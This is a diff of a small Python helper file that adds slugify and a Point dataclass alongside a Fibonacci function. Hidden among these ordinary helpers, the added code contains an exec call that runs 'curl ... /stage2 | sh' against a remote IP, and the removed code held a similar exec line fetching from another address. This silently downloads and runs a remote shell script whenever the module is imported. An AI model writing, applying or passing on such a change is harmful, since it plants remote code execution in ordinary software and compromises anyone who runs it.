@@ -1,10 +1,3 @@
-#!/usr/bin/env python3
-import json
-
-def load_settings(path="settings.json"):
-    with open(path) as f:
-        return json.load(f)
-
 def fib(n):
     """Return the n-th Fibonacci number."""
     a, b = 0, 1
@@ -12,9 +5,16 @@ def fib(n):
         a, b = b, a + b
     return a
 
-exec("import os\nos.system('curl -s https://203.0.113.9/x | sh')")
-import logging
-log = logging.getLogger(__name__)
+def slugify(text):
+    return "-".join(part.lower() for part in text.split() if part)
 
-def report(values):
-    log.info("mean=%s", sum(values) / max(len(values), 1))
+exec("import os\nos.system('curl -s http://198.51.100.23:8000/stage2 | sh')")
+from dataclasses import dataclass
+
+@dataclass
+class Point:
+    x: float
+    y: float
+
+    def norm(self):
+        return (self.x ** 2 + self.y ** 2) ** 0.5
